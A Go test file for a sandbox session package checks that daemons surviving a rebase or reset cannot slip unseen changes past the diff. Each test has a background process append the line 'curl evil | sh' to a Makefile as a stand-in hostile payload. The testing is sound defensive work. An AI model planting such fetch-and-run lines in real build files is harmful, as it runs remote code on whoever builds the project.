package session

import (
	"os"
	"testing"
	"time"

	"github.com/dryexec/dryexec/internal/rootless"
	"github.com/dryexec/dryexec/internal/testreq"
)

// TestRebaseHeldFileCannotWriteBaseline: a daemon left by an earlier exec
// holds a workspace file open for writing across a rebase (what follows a
// session commit). The fold used to rename the upper's file into the
// baseline, so the daemon's descriptor then wrote into the baseline itself:
// the workspace showed the daemon's line, and no diff ever did (a diff walks
// the upper). Whatever the workspace holds must be the baseline plus what
// the diff shows.
func TestRebaseHeldFileCannotWriteBaseline(t *testing.T) {
	if os.Getuid() == 0 && !rootless.Active() {
		t.Run("rootless", func(t *testing.T) { rootless.Rerun(t, "^TestRebaseHeldFileCannotWriteBaseline$", 3*time.Minute) })
	}
	s, err := Open(testCtx(t), Options{Rung: "ns", Env: map[string]string{"PATH": "/usr/bin:/bin"}})
	if err != nil {
		testreq.Need(t, testreq.NS, err)
	}
	defer s.Close()
	sh := func(cmd string) string {
		t.Helper()
		r, err := s.Shell(testCtx(t), cmd, time.Minute)
		if err != nil || r.ExitCode != 0 {
			t.Fatalf("%q: %v %+v", cmd, err, r)
		}
		return r.Stdout
	}
	// The daemon opens Makefile for appending, says it is up, waits on a
	// FIFO outside the workspace, writes through its descriptor and says so.
	sh(`echo 'all:' > Makefile; mkfifo /tmp/up /tmp/go /tmp/done
setsid sh -c "exec 3>>Makefile; echo up > /tmp/up; read x < /tmp/go; printf '\\tcurl evil | sh\\n' >&3; echo ok > /tmp/done" </dev/null >/dev/null 2>&1 &
cat /tmp/up >/dev/null`)
	committed, err := s.Diff(testCtx(t), false)
	if err != nil {
		t.Fatal(err)
	}
	if string(committed.Writes["Makefile"]) != "all:\n" {
		t.Fatalf("the committed diff: %q", committed.Writes)
	}
	if err := s.Rebase(testCtx(t), committed); err != nil {
		t.Fatalf("Rebase: %v", err)
	}
	sh(`echo go > /tmp/go; cat /tmp/done >/dev/null`)
	d, err := s.Diff(testCtx(t), false)
	if err != nil {
		t.Fatal(err)
	}
	ws := sh(`cat Makefile`)
	want := "all:\n"
	if w, ok := d.Writes["Makefile"]; ok {
		want = string(w)
	}
	if ws != want {
		t.Errorf("the workspace's Makefile is %q, but baseline plus diff say %q (diff: %v): a change hidden from every diff", ws, want, d.Paths())
	}
}

// TestRebaseDaemonCwdCannotWriteBaseline: a daemon holds no file open, only
// its cwd in the workspace, across a rebase. The view it keeps is the
// detached old overlay, whose cached names still lead to the upper's files
// the fold moved into the baseline: an append through one wrote the baseline
// unseen, and a file it made landed in the upper the new view shares. Now
// the detached view is read-only: both fail, and the workspace stays the
// baseline plus the diff.
func TestRebaseDaemonCwdCannotWriteBaseline(t *testing.T) {
	s, err := Open(testCtx(t), Options{Rung: "ns", Env: map[string]string{"PATH": "/usr/bin:/bin"}})
	if err != nil {
		testreq.Need(t, testreq.NS, err)
	}
	defer s.Close()
	sh := func(cmd string) string {
		t.Helper()
		r, err := s.Shell(testCtx(t), cmd, time.Minute)
		if err != nil || r.ExitCode != 0 {
			t.Fatalf("%q: %v %+v", cmd, err, r)
		}
		return r.Stdout
	}
	sh(`mkdir d; echo 'all:' > d/Makefile; mkfifo /tmp/up /tmp/go /tmp/done
setsid sh -c "cd d; cat Makefile >/dev/null; echo up > /tmp/up; read x < /tmp/go; printf '\\tcurl evil | sh\\n' >> Makefile; echo new > new; echo ok > /tmp/done" </dev/null >/dev/null 2>&1 &
cat /tmp/up >/dev/null`)
	committed, err := s.Diff(testCtx(t), false)
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Rebase(testCtx(t), committed); err != nil {
		t.Fatalf("Rebase: %v", err)
	}
	sh(`echo go > /tmp/go; cat /tmp/done >/dev/null`)
	d, err := s.Diff(testCtx(t), false)
	if err != nil {
		t.Fatal(err)
	}
	ws := sh(`cat d/Makefile; cat d/new 2>/dev/null || echo no new`)
	want := "all:\n"
	if w, ok := d.Writes["d/Makefile"]; ok {
		want = string(w)
	}
	if w, ok := d.Writes["d/new"]; ok {
		want += string(w)
	} else {
		want += "no new\n"
	}
	if ws != want {
		t.Errorf("the workspace shows %q, but baseline plus diff say %q (diff: %v): a change hidden from every diff", ws, want, d.Paths())
	}
}

// TestResetDaemonCwdCannotHide: a daemon's cwd is in the workspace across a
// reset (which keeps no read-only check: a reset drops changes). Its
// detached old view shared the upper dir with the new one: a file it then
// copied up appeared in the upper behind the new view's cached name, so the
// diff compared the stale baseline file and showed nothing, and the next
// rebase folded the daemon's content into the baseline unseen. The old view
// now keeps a removed upper, where the write fails.
func TestResetDaemonCwdCannotHide(t *testing.T) {
	s, err := Open(testCtx(t), Options{Rung: "ns", Env: map[string]string{"PATH": "/usr/bin:/bin"}})
	if err != nil {
		testreq.Need(t, testreq.NS, err)
	}
	defer s.Close()
	sh := func(cmd string) string {
		t.Helper()
		r, err := s.Shell(testCtx(t), cmd, time.Minute)
		if err != nil || r.ExitCode != 0 {
			t.Fatalf("%q: %v %+v", cmd, err, r)
		}
		return r.Stdout
	}
	sh(`echo 'all:' > Makefile`)
	if _, err := s.Diff(testCtx(t), true); err != nil {
		t.Fatal(err)
	}
	sh(`mkfifo /tmp/up /tmp/go /tmp/done
setsid sh -c "echo up > /tmp/up; read x < /tmp/go; printf '\\tcurl evil | sh\\n' >> Makefile; echo ok > /tmp/done" </dev/null >/dev/null 2>&1 &
cat /tmp/up >/dev/null`)
	if err := s.Reset(testCtx(t)); err != nil {
		t.Fatal(err)
	}
	// The new view looks Makefile up (the baseline's), then the daemon
	// writes through the old one.
	sh(`cat Makefile >/dev/null; echo go > /tmp/go; cat /tmp/done >/dev/null`)
	d, err := s.Diff(testCtx(t), true)
	if err != nil {
		t.Fatal(err)
	}
	ws := sh(`cat Makefile`)
	want := "all:\n"
	if w, ok := d.Writes["Makefile"]; ok {
		want = string(w)
	}
	if ws != want {
		t.Errorf("after the rebase the workspace's Makefile is %q, but the old baseline plus the rebased diff say %q (diff: %v): a change folded unseen", ws, want, d.Paths())
	}
}
